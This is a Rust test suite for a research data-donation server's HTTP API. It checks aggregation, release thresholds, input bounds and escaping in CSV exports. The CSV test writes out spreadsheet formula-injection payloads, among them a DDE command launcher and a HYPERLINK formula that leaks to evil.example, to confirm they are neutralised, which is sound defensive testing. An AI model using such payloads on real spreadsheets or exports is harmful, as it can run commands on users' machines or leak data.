//! What researchers publish, through the HTTP API (warp::test, no socket) on every storage:
//! exact sums with poisoned groups rejected, the release threshold, CSV cells that cannot run,
//! and bounded input. Each scenario is a function over a fresh storage; `api_scenarios!`
//! instantiates them for an adapter, like the conformance suite (memory in `main.rs`, MySQL in
//! `mysql_api.rs`).

use std::collections::BTreeMap;
use std::sync::Arc;

use pdd_server::adapters::http::{api_routes, ApiState, Limits};
use pdd_server::adapters::metrics::noop::NoopMetrics;
use pdd_server::domain::service::jobs::JobKind;
use pdd_server::domain::service::{Context, Services};
use pdd_server::domain::sketch::{Aggregation, Stats};
use pdd_server::domain::time::Calendar;
use pdd_server::ports::Storage;
use pdd_server::testing::{context, utc, ManualClock, SeededRandom};
use secrecy::SecretString;
use serde_json::{json, Value};
use warp::filters::BoxedFilter;
use warp::reply::Response;

const TOKEN: &str = "scenario-test-token-0123456789";

/// `api_scenarios!(name, factory)`: one `#[tokio::test]` per scenario, in `mod name`; the
/// factory is a conformance factory (see `conformance::Instance`).
#[macro_export]
macro_rules! api_scenarios {
    ($backend:ident, $factory:expr) => {
        $crate::api_scenarios!(@cases $backend, $factory, [
            poisoned_groups_are_rejected_and_the_day_is_the_exact_sum_of_the_others,
            raw_values_beyond_max_count_are_refused_and_raw_sums_are_exact,
            a_submission_without_the_vector_its_campaign_collects_is_400_and_the_sketch_stays_open,
            a_day_below_the_release_threshold_shows_its_stats_and_withholds_its_values,
            csv_export_writes_formula_cells_as_text_and_numbers_as_numbers,
            times_from_1970_to_the_end_of_9999_are_stored_exactly_and_others_refused,
            queries_are_bounded_and_text_fields_refuse_control_characters,
            max_count_and_threshold_belong_to_the_campaign_and_follow_the_update_rules,
        ]);
    };
    (@cases $backend:ident, $factory:expr, [$($case:ident),* $(,)?]) => {
        mod $backend {
            #[allow(unused_imports)]
            use super::*;
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $case() {
                    let factory = $factory;
                    let Some((storage, guard)) =
                        $crate::conformance::Instance::into_instance(factory().await)
                    else {
                        eprintln!("{}: storage unavailable, test skipped", stringify!($backend));
                        return;
                    };
                    $crate::api_scenarios::$case(storage).await;
                    drop(guard);
                }
            )*
        }
    };
}

/// The API over one storage, with a manual clock in UTC: campaigns start on 1 May 2018.
struct Api {
    api: BoxedFilter<(Response,)>,
    services: Services,
    clock: Arc<ManualClock>,
    storage: Arc<dyn Storage>,
}

struct Answer {
    status: u16,
    body: Vec<u8>,
}

impl Answer {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }

    fn errors(&self) -> Vec<String> {
        serde_json::from_value(self.json()["errors"].clone()).unwrap_or_default()
    }
}

impl Api {
    fn new(storage: Arc<dyn Storage>) -> Api {
        let clock = Arc::new(ManualClock::new(utc("2018-05-01T10:00:00Z")));
        let services = Services::new(Context {
            random: Arc::new(SeededRandom::new(11)),
            calendar: Calendar::new(chrono_tz::UTC),
            ..context(storage.clone(), clock.clone())
        });
        let api = api_routes(ApiState {
            services: services.clone(),
            access_token: SecretString::from(TOKEN),
            metrics: Arc::new(NoopMetrics),
            trusted_proxies: vec![],
            limits: Limits::unlimited_rates(),
        });
        Api {
            api,
            services,
            clock,
            storage,
        }
    }

    async fn call(&self, method: &str, path: &str, body: Option<Value>) -> Answer {
        self.send(method, path, body, None).await
    }

    async fn send(
        &self,
        method: &str,
        path: &str,
        body: Option<Value>,
        accept: Option<&str>,
    ) -> Answer {
        let mut req = warp::test::request()
            .method(method)
            .path(path)
            .header("authorization", format!("Bearer {TOKEN}"))
            .remote_addr("127.0.0.1:5000".parse().unwrap());
        if let Some(b) = body {
            req = req.header("content-type", "application/json").json(&b);
        }
        if let Some(a) = accept {
            req = req.header("accept", a);
        }
        let res = req.reply(&self.api).await;
        Answer {
            status: res.status().as_u16(),
            body: res.body().to_vec(),
        }
    }

    async fn campaign(&self, body: Value) -> String {
        let r = self.call("POST", "/api/campaigns", Some(body)).await;
        assert_eq!(r.status, 201, "{}", r.text());
        r.json()["name"].as_str().unwrap().to_string()
    }

    /// Registers `n` clients and pings each on day 0; creates day 0's sketches; returns each
    /// group's sketch names (in the order of its public keys), groups ordered by campaign name
    /// then keys.
    async fn day_zero_groups(&self, n: usize) -> Vec<Vec<String>> {
        let mut clients = Vec::new();
        for i in 0..n {
            let r = self
                .call(
                    "POST",
                    "/api/clients",
                    Some(json!({"publicKey": format!("04{i:02x}"), "browser": "firefox"})),
                )
                .await;
            assert_eq!(r.status, 201, "{}", r.text());
            let name = r.json()["name"].as_str().unwrap().to_string();
            let r = self
                .call("GET", &format!("/api/clients/{name}/ping"), None)
                .await;
            assert_eq!(r.status, 200);
            clients.push((name, format!("04{i:02x}")));
        }
        let at = utc("2018-05-02T01:00:00Z");
        let report = self
            .services
            .jobs
            .run(JobKind::CreateSketches, at)
            .await
            .unwrap();
        assert!(report.failed.is_empty());
        self.clock.set(utc("2018-05-02T10:00:00Z"));
        type Members = Vec<(usize, String)>;
        let mut groups: BTreeMap<(String, Vec<String>), Members> = BTreeMap::new();
        for (name, key) in &clients {
            let r = self
                .call("GET", &format!("/api/clients/{name}/ping"), None)
                .await;
            for command in r.json()["submit"].as_array().unwrap() {
                let keys: Vec<String> =
                    serde_json::from_value(command["publicKeys"].clone()).unwrap();
                let position = keys.iter().position(|k| k == key).unwrap();
                let sketch = command["sketchName"].as_str().unwrap().to_string();
                let stored = self.storage.get_sketch(&sketch).await.unwrap().unwrap();
                groups
                    .entry((stored.campaign_name, keys))
                    .or_default()
                    .push((position, sketch));
            }
        }
        groups
            .into_values()
            .map(|mut members| {
                members.sort();
                members.into_iter().map(|(_, s)| s).collect()
            })
            .collect()
    }

    async fn submit(&self, sketch: &str, body: Value) -> Answer {
        self.call("PATCH", &format!("/api/sketches/{sketch}"), Some(body))
            .await
    }

    /// Aggregates day 0 (due on 3 May at 00:30) and reads its result.
    async fn aggregate_day_zero(&self, campaign: &str) -> Value {
        let report = self
            .services
            .jobs
            .run(JobKind::AggregateSketches, utc("2018-05-03T00:30:00Z"))
            .await
            .unwrap();
        assert!(report.failed.is_empty(), "{report:?}");
        let r = self
            .call("GET", &format!("/api/campaigns/{campaign}/results/0"), None)
            .await;
        assert_eq!(r.status, 200, "{}", r.text());
        r.json()
    }
}

pub async fn poisoned_groups_are_rejected_and_the_day_is_the_exact_sum_of_the_others(
    s: Arc<dyn Storage>,
) {
    let api = Api::new(s);
    let campaign = api
        .campaign(json!({
            "displayName": "Flu", "startTime": "2018-05-01T00:00:00Z", "groupSize": 2,
            "vocabulary": {"queries": [{"exact": "flu"}]}
        }))
        .await;
    let groups = api.day_zero_groups(8).await;
    assert_eq!(groups.len(), 4);
    // Group 0 honest, blinded with ±B·10 (B of 60 digits): the sums are 9 and 2.
    let b = "123456789012345678901234567890123456789012345678901234567890";
    for (sketch, values) in groups[0].iter().zip([
        [format!("{b}9"), format!("-{b}0")],
        [format!("-{b}0"), format!("{b}2")],
    ]) {
        let r = api
            .submit(
                sketch,
                json!({"encryptedValues": values, "rawValues": [1, 1]}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text());
    }
    // Groups 1 and 2 each decrypt to 2^62 + 1: once summed to i64::MAX.
    for group in &groups[1..3] {
        for (sketch, total) in group.iter().zip(["4611686018427387905", "0"]) {
            let r = api
                .submit(
                    sketch,
                    json!({"encryptedValues": [total, "0"], "rawValues": [0, 0]}),
                )
                .await;
            assert_eq!(r.status, 204);
        }
    }
    // Group 3: one member alone pushes the day towards i64::MAX, the other is honest.
    for (sketch, total) in groups[3].iter().zip(["9223372036854775806", "1"]) {
        let r = api
            .submit(
                sketch,
                json!({"encryptedValues": [total, "0"], "rawValues": [0, 0]}),
            )
            .await;
        assert_eq!(r.status, 204);
    }
    let result = api.aggregate_day_zero(&campaign).await;
    assert_eq!(
        result["stats"],
        json!({"activeCount": 8, "submittedCount": 8, "decryptedCount": 2, "rejectedCount": 6})
    );
    assert_eq!(result["decryptedValues"], json!([9, 2]));
    assert_eq!(result["withheld"], false);
    let r = api
        .send(
            "GET",
            &format!("/api/campaigns/{campaign}/results/0?export=1"),
            None,
            Some("text/csv"),
        )
        .await;
    assert_eq!(
        r.text(),
        "day,query,count\n2018-05-01,_total,9\n2018-05-01,flu,2\n"
    );
    let stored = api
        .storage
        .get_aggregation(&campaign, 0)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored.decrypted_values, vec![9, 2]);
    assert_eq!(stored.stats.rejected_count, 6);
}

pub async fn raw_values_beyond_max_count_are_refused_and_raw_sums_are_exact(s: Arc<dyn Storage>) {
    let api = Api::new(s);
    let campaign = api
        .campaign(json!({
            "displayName": "Raw", "startTime": "2018-05-01T00:00:00Z", "groupSize": 2,
            "collectRaw": true, "maxCount": 100,
            "vocabulary": {"queries": [{"exact": "flu"}]}
        }))
        .await;
    let groups = api.day_zero_groups(2).await;
    let (a, b) = (&groups[0][0], &groups[0][1]);
    let r = api
        .submit(
            a,
            json!({"encryptedValues": ["100", "0"], "rawValues": [101, -1]}),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(
        r.errors(),
        vec![
            "rawValues.0: should be at most 100",
            "rawValues.1: should not be negative"
        ]
    );
    let r = api
        .submit(
            a,
            json!({"encryptedValues": ["100", "0"], "rawValues": [9223372036854775807i64, 0]}),
        )
        .await;
    assert_eq!(r.errors(), vec!["rawValues.0: should be at most 100"]);
    // The bound itself is accepted; the sums are exact.
    for sketch in [a, b] {
        let r = api
            .submit(
                sketch,
                json!({"encryptedValues": ["100", "3"], "rawValues": [100, 3]}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text());
    }
    let result = api.aggregate_day_zero(&campaign).await;
    assert_eq!(result["rawValues"], json!([200, 6]));
    assert_eq!(result["decryptedValues"], json!([200, 6]));
    assert_eq!(result["stats"]["decryptedCount"], 2);
}

pub async fn a_submission_without_the_vector_its_campaign_collects_is_400_and_the_sketch_stays_open(
    s: Arc<dyn Storage>,
) {
    let api = Api::new(s);
    let campaign = api
        .campaign(json!({
            "displayName": "Flu", "startTime": "2018-05-01T00:00:00Z", "groupSize": 2,
            "vocabulary": {"queries": [{"exact": "flu"}]}
        }))
        .await;
    let raw_campaign = api
        .campaign(json!({
            "displayName": "Raw only", "startTime": "2018-05-01T00:00:00Z", "groupSize": 2,
            "collectEncrypted": false, "collectRaw": true
        }))
        .await;
    let groups = api.day_zero_groups(2).await;
    // Both campaigns give each client one sketch; find each campaign's.
    let mut sketches: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for group in groups {
        for sketch in group {
            let stored = api.storage.get_sketch(&sketch).await.unwrap().unwrap();
            sketches
                .entry(stored.campaign_name)
                .or_default()
                .push(sketch);
        }
    }
    let (a, b) = (&sketches[&campaign][0], &sketches[&campaign][1]);
    for body in [
        json!({}),
        json!({"encryptedValues": null, "rawValues": [1, 1]}),
        json!({"encryptedValues": [], "rawValues": [1, 1]}),
    ] {
        let r = api.submit(a, body.clone()).await;
        assert_eq!(r.status, 400, "{body}");
        assert_eq!(r.errors(), vec!["encryptedValues: is required"], "{body}");
    }
    let stored = api.storage.get_sketch(a).await.unwrap().unwrap();
    assert!(!stored.submitted, "the sketch stays open");
    let group = &api.storage.day_groups(&campaign, 0).await.unwrap()[0];
    assert_eq!((group.submitted, group.encrypted), (0, 0));
    // A raw-only campaign requires its raw vector instead, and takes [] for encrypted.
    let raw_sketch = &sketches[&raw_campaign][0];
    let r = api.submit(raw_sketch, json!({"encryptedValues": []})).await;
    assert_eq!(r.errors(), vec!["rawValues: is required"]);
    let r = api
        .submit(raw_sketch, json!({"encryptedValues": [], "rawValues": [4]}))
        .await;
    assert_eq!(r.status, 204);
    // The correct submissions then go through and the group decrypts.
    for (sketch, v) in [(a, "4"), (b, "3")] {
        let r = api
            .submit(
                sketch,
                json!({"encryptedValues": [v, "1"], "rawValues": [0, 0]}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text());
    }
    let result = api.aggregate_day_zero(&campaign).await;
    assert_eq!(result["decryptedValues"], json!([7, 2]));
    assert_eq!(result["stats"]["decryptedCount"], 2);
}

pub async fn a_day_below_the_release_threshold_shows_its_stats_and_withholds_its_values(
    s: Arc<dyn Storage>,
) {
    let api = Api::new(s);
    let campaign = api
        .campaign(json!({
            "displayName": "Small", "startTime": "2018-05-01T00:00:00Z", "groupSize": 2,
            "collectRaw": true, "minDecryptedCount": 3,
            "vocabulary": {"queries": [{"exact": "flu"}]}
        }))
        .await;
    let groups = api.day_zero_groups(2).await;
    for sketch in &groups[0] {
        let r = api
            .submit(
                sketch,
                json!({"encryptedValues": ["5", "1"], "rawValues": [5, 1]}),
            )
            .await;
        assert_eq!(r.status, 204);
    }
    let result = api.aggregate_day_zero(&campaign).await;
    assert_eq!(
        result,
        json!({
            "name": format!("{campaign}-0"), "campaignName": campaign, "day": 0,
            "stats": {"activeCount": 2, "submittedCount": 2, "decryptedCount": 2,
                      "rejectedCount": 0},
            "decryptedValues": [], "rawValues": [], "withheld": true
        })
    );
    let r = api
        .call("GET", &format!("/api/campaigns/{campaign}/results"), None)
        .await;
    assert_eq!(r.json()["results"][0]["withheld"], true);
    let r = api
        .send(
            "GET",
            &format!("/api/campaigns/{campaign}/results?export=1"),
            None,
            Some("text/csv"),
        )
        .await;
    assert_eq!(r.text(), "day,query,count\n2018-05-01,_total,\n");
    let r = api
        .call(
            "GET",
            &format!("/api/campaigns/{campaign}/results/0?export=1"),
            None,
        )
        .await;
    assert_eq!(
        r.json(),
        json!([{"date": "2018-05-01", "query": "_total", "withheld": true}])
    );
    // The values were never stored.
    let stored = api
        .storage
        .get_aggregation(&campaign, 0)
        .await
        .unwrap()
        .unwrap();
    assert!(stored.withheld);
    assert!(stored.decrypted_values.is_empty() && stored.raw_values.is_empty());
}

pub async fn csv_export_writes_formula_cells_as_text_and_numbers_as_numbers(s: Arc<dyn Storage>) {
    let api = Api::new(s);
    let campaign = api
        .campaign(json!({
            "displayName": "Formulas", "startTime": "2018-05-01T00:00:00Z",
            "vocabulary": {"queries": [
                {"exact": "=cmd|' /C calc'!A0"}, {"exact": "+SUM(1+1)"}, {"exact": "@SUM(1)"},
                {"exact": "=HYPERLINK(\"http://evil.example/?leak\")"},
                {"terms": ["-2+3", "flu"]}, {"exact": "flu = fever"}
            ]}
        }))
        .await;
    api.storage
        .put_aggregation(&Aggregation {
            campaign_name: campaign.clone(),
            day: 0,
            stats: Stats::default(),
            decrypted_values: vec![21, 1, 2, 3, 4, 5, 6],
            raw_values: vec![],
            withheld: false,
        })
        .await
        .unwrap();
    let r = api
        .send(
            "GET",
            &format!("/api/campaigns/{campaign}/results?export=1"),
            None,
            Some("text/csv"),
        )
        .await;
    assert_eq!(
        r.text(),
        "day,query,count\n\
         2018-05-01,_total,21\n\
         2018-05-01,'=cmd|' /C calc'!A0,1\n\
         2018-05-01,'+SUM(1+1),2\n\
         2018-05-01,'@SUM(1),3\n\
         2018-05-01,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\")\",4\n\
         2018-05-01,\"'-2+3, flu\",5\n\
         2018-05-01,flu = fever,6\n"
    );
    // The JSON export is unchanged: the labels as they are.
    let r = api
        .call(
            "GET",
            &format!("/api/campaigns/{campaign}/results?export=1"),
            None,
        )
        .await;
    assert_eq!(
        r.json()[1],
        json!({"date": "2018-05-01", "query": "=cmd|' /C calc'!A0", "count": 1})
    );
    assert_eq!(r.json()[5]["query"], "-2+3, flu");
}

pub async fn times_from_1970_to_the_end_of_9999_are_stored_exactly_and_others_refused(
    s: Arc<dyn Storage>,
) {
    let api = Api::new(s);
    let range = "should be between 1970-01-01T00:00:00.000Z and 9999-12-31T23:59:59.999Z";
    for (field, value) in [
        ("startTime", json!(8_000_000_000_000_000i64)),
        ("startTime", json!(-1)),
        ("startTime", json!(i64::MAX)),
        ("startTime", json!(u64::MAX)),
        ("startTime", json!("0000-01-01T00:00:00Z")),
        ("endTime", json!("9999-12-31T23:59:59.999-00:01")),
        ("endTime", json!(253_402_300_800_000i64)),
    ] {
        let r = api
            .call(
                "POST",
                "/api/campaigns",
                Some(json!({"displayName": "Far", field: value})),
            )
            .await;
        assert_eq!(r.status, 400, "{field}: {value}");
        assert_eq!(r.errors(), vec![format!("{field}: {range}")], "{value}");
    }
    assert!(api.storage.list_campaigns().await.unwrap().is_empty());
    let name = api
        .campaign(json!({
            "displayName": "Edges", "startTime": 0, "endTime": 253_402_300_799_999i64
        }))
        .await;
    let r = api
        .call("GET", &format!("/api/campaigns/{name}"), None)
        .await;
    assert_eq!(r.json()["startTime"], "1970-01-01T00:00:00.000Z");
    assert_eq!(r.json()["endTime"], "9999-12-31T23:59:59.999Z");
    let r = api
        .call(
            "PUT",
            &format!("/api/campaigns/{name}"),
            Some(
                json!({"displayName": "Edges", "startTime": "1970-01-01T00:00:00Z",
                        "endTime": "+10000-01-01T00:00:00Z"}),
            ),
        )
        .await;
    assert_eq!(r.status, 400);
    let stored = api.storage.get_campaign(&name).await.unwrap().unwrap();
    assert_eq!(stored.end_time, Some(utc("9999-12-31T23:59:59.999Z")));
}

pub async fn queries_are_bounded_and_text_fields_refuse_control_characters(s: Arc<dyn Storage>) {
    let api = Api::new(s);
    let terms: Vec<String> = (0..100_000).map(|i| format!("t{i}")).collect();
    let r = api
        .call(
            "POST",
            "/api/campaigns",
            Some(json!({
                "displayName": "Flu\u{0}", "email": "a@b.org\u{202e}", "notes": "ok\n\tok\u{7}",
                "vocabulary": {"queries": [
                    {"terms": terms}, {"exact": "x".repeat(201)}, {"exact": "fl\u{0}u"},
                    {"terms": ["\u{2066}flu"]}, {"terms": (0..32).map(|i| format!("t{i}")).collect::<Vec<_>>()},
                    {"exact": "y".repeat(200)}
                ]}
            })),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(
        r.errors(),
        vec![
            "displayName: should not contain control characters",
            "email: should not contain control characters",
            "notes: should not contain control characters",
            "vocabulary.queries.0.terms: should have at most 32 terms",
            "vocabulary.queries.1.exact: should be at most 200 characters",
            "vocabulary.queries.2.exact: should not contain control characters",
            "vocabulary.queries.3.terms.0: should not contain control characters",
        ]
    );
    // Notes keep their line breaks.
    let name = api
        .campaign(json!({"displayName": "Flu", "notes": "line one\r\nline two\n\tindented"}))
        .await;
    let stored = api.storage.get_campaign(&name).await.unwrap().unwrap();
    assert_eq!(
        stored.notes.as_deref(),
        Some("line one\r\nline two\n\tindented")
    );

    let r = api
        .call(
            "POST",
            "/api/clients",
            Some(
                json!({"publicKey": "04ab\u{0}", "browser": "fire\u{202d}fox",
                        "externalName": "panel\u{0}"}),
            ),
        )
        .await;
    assert_eq!(
        r.errors(),
        vec![
            "publicKey: should be hexadecimal",
            "browser: should not contain control characters",
            "externalName: should not contain control characters",
        ]
    );
    let r = api
        .call(
            "POST",
            "/api/clients",
            Some(json!({"publicKey": "04ab", "browser": "firefox"})),
        )
        .await;
    let client = r.json()["name"].as_str().unwrap().to_string();
    let r = api
        .call(
            "PATCH",
            &format!("/api/clients/{client}"),
            Some(json!({"externalName": "\u{2067}x"})),
        )
        .await;
    assert_eq!(
        r.errors(),
        vec!["externalName: should not contain control characters"]
    );
    let r = api
        .call(
            "POST",
            &format!("/api/clients/{client}/ping"),
            Some(json!({"extensionVersion": "1.0\u{0}", "timezone": "Europe/\u{7f}Paris"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(
        r.errors(),
        vec![
            "extensionVersion: should not contain control characters",
            "timezone: should not contain control characters"
        ]
    );
    let stored = api.storage.get_client(&client).await.unwrap().unwrap();
    assert_eq!(stored.client.external_name, None);
    assert_eq!(
        stored.latest_activity, None,
        "a refused ping records nothing"
    );
}

pub async fn max_count_and_threshold_belong_to_the_campaign_and_follow_the_update_rules(
    s: Arc<dyn Storage>,
) {
    let api = Api::new(s);
    // Created with both, in the future: editable either way until the start.
    let name = api
        .campaign(json!({
            "displayName": "Flu", "startTime": "2018-05-05T00:00:00Z",
            "maxCount": 50, "minDecryptedCount": 3
        }))
        .await;
    let r = api
        .call("GET", &format!("/api/campaigns/{name}"), None)
        .await;
    assert_eq!(
        (
            r.json()["maxCount"].clone(),
            r.json()["minDecryptedCount"].clone()
        ),
        (json!(50), json!(3))
    );
    // A replacement that does not name them (the deployed dashboard) keeps them.
    let r = api
        .call(
            "PUT",
            &format!("/api/campaigns/{name}"),
            Some(json!({"displayName": "Flu (UK)", "startTime": "2018-05-05T00:00:00Z"})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["maxCount"], 50);
    assert_eq!(r.json()["minDecryptedCount"], 3);
    let r = api
        .call(
            "PUT",
            &format!("/api/campaigns/{name}"),
            Some(
                json!({"displayName": "Flu", "startTime": "2018-05-05T00:00:00Z",
                        "maxCount": 80, "minDecryptedCount": 0}),
            ),
        )
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["maxCount"], 80);
    // Started: maxCount frozen, the threshold may only rise.
    api.clock.set(utc("2018-05-06T00:00:00Z"));
    let path = format!("/api/campaigns/{name}");
    let put = |body: Value| api.call("PUT", &path, Some(body));
    let r = put(
        json!({"displayName": "Flu", "startTime": "2018-05-05T00:00:00Z",
                      "maxCount": 81, "minDecryptedCount": 5}),
    )
    .await;
    assert_eq!(
        r.errors(),
        vec!["maxCount: cannot be changed once the campaign has started"]
    );
    let r = put(
        json!({"displayName": "Flu", "startTime": "2018-05-05T00:00:00Z",
                      "minDecryptedCount": 5}),
    )
    .await;
    assert_eq!(r.status, 200);
    let r = put(
        json!({"displayName": "Flu", "startTime": "2018-05-05T00:00:00Z",
                      "minDecryptedCount": 4}),
    )
    .await;
    assert_eq!(
        r.errors(),
        vec!["minDecryptedCount: cannot be lowered once the campaign has started"]
    );
    let stored = api.storage.get_campaign(&name).await.unwrap().unwrap();
    assert_eq!((stored.max_count, stored.min_decrypted_count), (80, 5));
    let r = api
        .call(
            "POST",
            "/api/campaigns",
            Some(json!({"displayName": "Bad", "maxCount": 0, "minDecryptedCount": -1})),
        )
        .await;
    assert_eq!(
        r.errors(),
        vec![
            "maxCount: should be at least 1",
            "minDecryptedCount: should be at least 0"
        ]
    );
}
